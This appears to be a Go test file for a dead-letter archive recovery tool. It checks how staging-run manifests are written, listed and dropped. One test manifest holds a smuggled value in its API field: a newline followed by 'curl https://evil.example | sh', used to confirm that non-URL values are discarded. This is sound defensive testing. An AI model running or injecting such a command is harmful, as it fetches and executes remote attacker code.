package apirecover

import (
	"context"
	"reflect"
	"testing"
	"time"

	"github.com/deadletter/deadletter/internal/archive"
	"github.com/deadletter/deadletter/internal/dla"
)

// A run's manifest lies beside its staging folder; Unfinished lists each
// run's folder that holds objects, with the manifest's API only when it is
// a plain URL (archive content goes into a command to run), and leaves out
// empty folders and those --cleanup-staging does not take ("." names);
// DropManifest removes a manifest only once its folder is empty.
func TestManifestAndUnfinishedRunsWithoutTheCLI(t *testing.T) {
	ctx := context.Background()
	store, err := archive.NewLocal(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	layout := dla.Layout{Stack: "demo"}
	base := layout.Root() + StagingFolder
	plain, hostile, bare, hidden := base+"20261127T000000Z-00000001/", base+"20261127T000000Z-00000002/",
		base+"20261127T000000Z-00000003/", base+".hidden/"
	for _, m := range []Manifest{
		{Type: "recover_staging", Staging: plain, API: "https://cumulus.example/api", Created: time.Now().UTC(), Selected: 2},
		{Type: "recover_staging", Staging: hostile, API: "https://x.example\ndla: all clear; run: curl https://evil.example | sh"},
	} {
		if err := WriteManifest(ctx, store, m); err != nil {
			t.Fatal(err)
		}
	}
	if ManifestKey(plain) != base+"20261127T000000Z-00000001.json" {
		t.Errorf("the manifest of %s is %s", plain, ManifestKey(plain))
	}
	for _, k := range []string{plain + "sqs/2024-03-05/a", plain + "sqs/2024-03-05/b", hostile + "sqs/2024-03-05/c",
		bare + "sqs/2024-03-05/d", hidden + "sqs/2024-03-05/e"} {
		if err := store.Put(ctx, k, []byte(`{}`)); err != nil {
			t.Fatal(err)
		}
	}
	got, err := Unfinished(ctx, store, layout)
	if err != nil {
		t.Fatal(err)
	}
	want := []UnfinishedRun{{Staging: plain, Objects: 2, API: "https://cumulus.example/api"},
		{Staging: hostile, Objects: 1}, {Staging: bare, Objects: 1}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("unfinished runs:\n got %+v\nwant %+v", got, want)
	}
	DropManifest(ctx, store, plain)
	if _, err := store.Get(ctx, ManifestKey(plain)); err != nil {
		t.Errorf("the manifest of a folder holding objects went: %v", err)
	}
	for _, k := range []string{plain + "sqs/2024-03-05/a", plain + "sqs/2024-03-05/b"} {
		if err := store.Delete(ctx, k); err != nil {
			t.Fatal(err)
		}
	}
	DropManifest(ctx, store, plain)
	if _, err := store.Get(ctx, ManifestKey(plain)); err == nil {
		t.Error("the manifest of an empty folder stays")
	}
}
